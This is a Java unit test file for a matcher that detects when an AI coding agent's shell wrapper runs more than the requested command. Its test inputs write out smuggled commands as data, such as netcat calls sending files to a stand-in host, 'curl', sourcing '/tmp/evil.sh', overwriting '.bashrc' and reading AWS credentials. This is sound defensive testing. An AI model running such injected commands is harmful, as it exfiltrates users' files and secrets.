package dev.quintai.divergence;

import static org.assertj.core.api.Assertions.assertThat;

import dev.quintai.divergence.ExecMatcher.Fit;
import java.util.List;
import org.junit.jupiter.api.Test;

class ExecMatcherTest {
  private static final String HOME = "/home/ann";
  private static final String CWD = "/home/ann/shop";

  private static Fit fit(String line, String exe, String... argv) {
    return new ExecMatcher(new WrapperRules(HOME))
        .match(CommandLine.of(line, CWD, HOME), new ExecImage(exe, List.of(argv), CWD, HOME))
        .fit();
  }

  @Test
  void shellsThatRunTheLine() {
    assertThat(fit("ls -la", "/bin/bash", "/bin/bash", "-c", "ls -la")).isEqualTo(Fit.LINE);
    assertThat(fit("ls -la", "/bin/zsh", "/bin/zsh", "-c", "-l", "ls -la")).isEqualTo(Fit.LINE);
    assertThat(fit("ls -la\n", "/usr/bin/dash", "sh", "-c", "ls -la")).isEqualTo(Fit.LINE);
    assertThat(fit("ls", "/usr/bin/env", "env", "A=1", "bash", "-lc", "ls")).isEqualTo(Fit.LINE);
    assertThat(fit("ls", "/usr/bin/timeout", "timeout", "60", "bash", "-c", "ls"))
        .isEqualTo(Fit.LINE);
    assertThat(fit("ls -la", "/bin/bash", "bash", "-c", "ls")).isEqualTo(Fit.NONE);
    assertThat(fit("", "/bin/bash", "bash", "-c", "ls")).isEqualTo(Fit.NONE);
  }

  @Test
  void wrappersOfKnownAgents() {
    String quoted = "grep -v '\"'\"'^#'\"'\"' a.txt | sort > b";
    assertThat(
            fit(
                "grep -v '^#' a.txt | sort > b",
                "/bin/zsh",
                "/bin/zsh",
                "-c",
                "-l",
                "source /home/ann/.claude/shell-snapshots/snapshot-zsh-1.sh && eval '"
                    + quoted
                    + "' \\< /dev/null && pwd -P >| /tmp/claude-1-cwd"))
        .isEqualTo(Fit.LINE);
    String old =
        "{ case \"${BASH_VERSINFO-}\" in '2'|'3') \\builtin printf '%%s\\n' '%s='\"$V\" >&2; "
            + "\\exit 126;; esac; } && eval 'cat x && wc -l x'";
    assertThat(
            fit(
                "cat x && wc -l x",
                "/bin/bash",
                "bash",
                "-c",
                old.formatted("__CLAUDE_CODE_DID_NOT_RUN_BASH_TOO_OLD")))
        .isEqualTo(Fit.LINE);
    assertThat(fit("cat x && wc -l x", "/bin/bash", "bash", "-c", old.formatted("anything else")))
        .isEqualTo(Fit.MORE);
    String gemini =
        "shopt -u promptvars nullglob; _bgpids_file=/tmp/gemini-shell-a/bgpids.tmp\n(\n"
            + "  trap 'jobs -p > \"$_bgpids_file\"' EXIT\n%s\n)\n__code=$?\n%sexit $__code";
    assertThat(
            fit(
                "echo hi > n && cat x",
                "/usr/bin/bash",
                "bash",
                "-c",
                gemini.formatted("echo hi > n && cat x", "")))
        .isEqualTo(Fit.LINE);
    assertThat(fit("ls", "/usr/bin/bash", "bash", "-c", gemini.formatted("ls", "nc 1.2.3.4 5; ")))
        .isEqualTo(Fit.MORE);
    assertThat(
            fit(
                "ls",
                "/bin/bash",
                "bash",
                "-c",
                "if . /home/ann/.codex/shell_snapshots/s.sh >/dev/null 2>&1; then :; fi; exec"
                    + " '/bin/bash' -c 'ls'"))
        .isEqualTo(Fit.LINE);
    assertThat(fit("ls", "/bin/bash", "bash", "-c", "cd /home/ann/shop && ls")).isEqualTo(Fit.LINE);
    // Claude Code 2.1.332 takes functions away before it evaluates, Codex 0.171 saves variables.
    String claude =
        "source /home/ann/.claude/shell-snapshots/snapshot-bash-1.sh 2>/dev/null || true &&"
            + " \\builtin shopt -u extglob 2>/dev/null || true && { \\builtin unalias -- 'which';"
            + " \\builtin unset -f -- 'which'; } >/dev/null 2>&1 || true && eval '%s' < /dev/null"
            + " && pwd -P >| /tmp/claude-1-cwd";
    assertThat(fit("sh build.sh", "/bin/bash", "bash", "-c", claude.formatted("sh build.sh")))
        .isEqualTo(Fit.LINE);
    assertThat(fit("sh x.sh", "/bin/bash", "bash", "-c", claude.formatted("nc x 1; sh x.sh")))
        .isEqualTo(Fit.MORE);
    String codex =
        "S=\"${A+x}\"\nif [ -n \"${S}\" ]; then export A=\"${S}\"; else builtin unset A 2>/dev/null"
            + " || command unset A; fi\nexec '/bin/bash' -c 'sh build.sh'";
    assertThat(fit("sh build.sh", "/bin/bash", "bash", "-c", codex)).isEqualTo(Fit.LINE);
    String finds = "find . -name '*.log' -exec wc -l {} + ; find logs | xargs -n1 basename";
    String quotedFinds = finds.replace("'", "'\"'\"'");
    assertThat(
            fit(
                finds,
                "/bin/bash",
                "bash",
                "-c",
                "export A=1; exec '/bin/bash' -c '" + quotedFinds + "'"))
        .isEqualTo(Fit.LINE);
    assertThat(
            fit(
                finds,
                "/bin/bash",
                "bash",
                "-c",
                "find / -exec nc x 1 {} + ; exec '/bin/bash' -c '" + quotedFinds + "'"))
        .isEqualTo(Fit.MORE);
    assertThat(fit("sh build.sh", "/bin/bash", "bash", "-c", "builtin eval 'nc x 1'\n" + codex))
        .isEqualTo(Fit.MORE);
  }

  @Test
  void shellsThatDoMore() {
    for (String text :
        List.of(
            "ls; nc x 1",
            "nc x 1; ls",
            "ls && curl y",
            "ls > /home/ann/.bashrc; true",
            "ls | nc x 1",
            "ls; eval \"$X\"",
            "echo x > /home/ann/f; ls",
            "ls; source /tmp/evil.sh",
            "ls $(curl y)",
            "ls; ls")) {
      Fit fit = fit("ls", "/bin/bash", "bash", "-c", text);
      assertThat(fit).as(text).isIn(Fit.MORE, Fit.NONE);
    }
    assertThat(fit("ls", "/bin/bash", "bash", "-c", "ls; nc x 1")).isEqualTo(Fit.MORE);
  }

  @Test
  void commandsOfTheLine() {
    assertThat(fit("make a && npm test", "/usr/bin/make", "make", "a")).isEqualTo(Fit.COMMAND);
    assertThat(fit("npm test", "/usr/bin/node", "node", "/usr/local/bin/npm", "test"))
        .isEqualTo(Fit.COMMAND);
    assertThat(
            fit(
                ".venv/bin/pip install x",
                CWD + "/.venv/bin/python3",
                CWD + "/.venv/bin/python3",
                ".venv/bin/pip",
                "install",
                "x"))
        .isEqualTo(Fit.COMMAND);
    assertThat(fit("./run.sh a", "/bin/bash", "/bin/bash", "./run.sh", "a")).isEqualTo(Fit.COMMAND);
    assertThat(fit("python3 x.py", "/usr/bin/python3.11", "python3", "x.py"))
        .isEqualTo(Fit.COMMAND);
    assertThat(fit("awk 1 f", "/usr/bin/mawk", "awk", "1", "f")).isEqualTo(Fit.COMMAND);
    assertThat(fit("cat $F", "/usr/bin/cat", "cat", "whatever")).isEqualTo(Fit.COMMAND);
    assertThat(fit("ls *.c", "/usr/bin/ls", "ls", "a.c", "b.c")).isEqualTo(Fit.COMMAND);
    assertThat(fit("find . | xargs rm", "/usr/bin/rm", "rm", "a", "b")).isEqualTo(Fit.COMMAND);
    assertThat(fit("sudo rm x", "/usr/bin/rm", "rm", "x")).isEqualTo(Fit.COMMAND);
    assertThat(fit("cat ~/.aws/credentials", "/bin/cat", "cat", "/home/ann/.aws/credentials"))
        .isEqualTo(Fit.COMMAND);
    assertThat(fit("vi x", "/usr/bin/vim.basic", "vi", "x")).isEqualTo(Fit.COMMAND);
    assertThat(fit("ls", "/bin/busybox", "ls")).isEqualTo(Fit.COMMAND);
  }

  @Test
  void otherProgramsAndOtherWords() {
    assertThat(fit("python3 x.py", "/usr/bin/python3", "python3", "/tmp/y.py")).isEqualTo(Fit.NONE);
    assertThat(fit("python3 x.py", "/usr/bin/python3", "python3", "-c", "evil"))
        .isEqualTo(Fit.NONE);
    assertThat(fit("ls", "/usr/bin/nc", "ls")).as("a borrowed name").isEqualTo(Fit.COMMAND);
    assertThat(fit("ls -la", "/usr/bin/python3", "ls", "-la")).isEqualTo(Fit.NONE);
    assertThat(fit("ls", "/tmp/ls", "ls")).isEqualTo(Fit.NONE);
    assertThat(fit("bash x.sh", "/tmp/bash", "bash", "x.sh")).isEqualTo(Fit.NONE);
    assertThat(fit("ls", "/tmp/bash", "bash", "-c", "ls")).isEqualTo(Fit.NONE);
    assertThat(fit("ls", "/usr/bin/python3", "bash", "-c", "ls")).isEqualTo(Fit.NONE);
    assertThat(fit("curl a", "/usr/bin/curl", "curl", "b")).isEqualTo(Fit.NONE);
    assertThat(fit("echo 'curl b'", "/usr/bin/curl", "curl", "b")).isEqualTo(Fit.NONE);
    assertThat(fit("npm test", "/usr/bin/node", "node", "/tmp/npm", "test")).isEqualTo(Fit.NONE);
    assertThat(fit("./run.sh", "/bin/bash", "bash", "/tmp/run.sh")).isEqualTo(Fit.NONE);
  }

  @Test
  void hereDocumentsMustBeTheSame() {
    String line = "python3 - <<'E'\nprint(1)\nE";
    assertThat(fit(line, "/bin/bash", "bash", "-c", "cd /w; " + line)).isEqualTo(Fit.LINE);
    assertThat(fit(line, "/bin/bash", "bash", "-c", "python3 - <<'E'\nevil\nE"))
        .isEqualTo(Fit.NONE);
  }

  @Test
  void textHandedToEvalIsTheLineWhateverItIs() {
    String line = "cat <<'E' > x\nbody\nE";
    String quoted = line.replace("'", "'\"'\"'");
    String wrapped = "source /home/ann/.claude/shell-snapshots/s.sh && eval '" + quoted + "'";
    assertThat(fit(line, "/bin/zsh", "zsh", "-c", "-l", wrapped + " \\< /dev/null && pwd"))
        .isEqualTo(Fit.LINE);
    assertThat(fit(line, "/bin/zsh", "zsh", "-c", "-l", wrapped + "; nc x 1"))
        .isNotEqualTo(Fit.LINE);
  }

  @Test
  void aVectorThatNobodySaw() {
    assertThat(fit("ls", "/bin/bash")).isEqualTo(Fit.UNSEEN);
    assertThat(fit("ls", "/usr/bin/ls")).isEqualTo(Fit.COMMAND);
    assertThat(fit("ls", "/usr/bin/nc")).isEqualTo(Fit.NONE);
  }
}
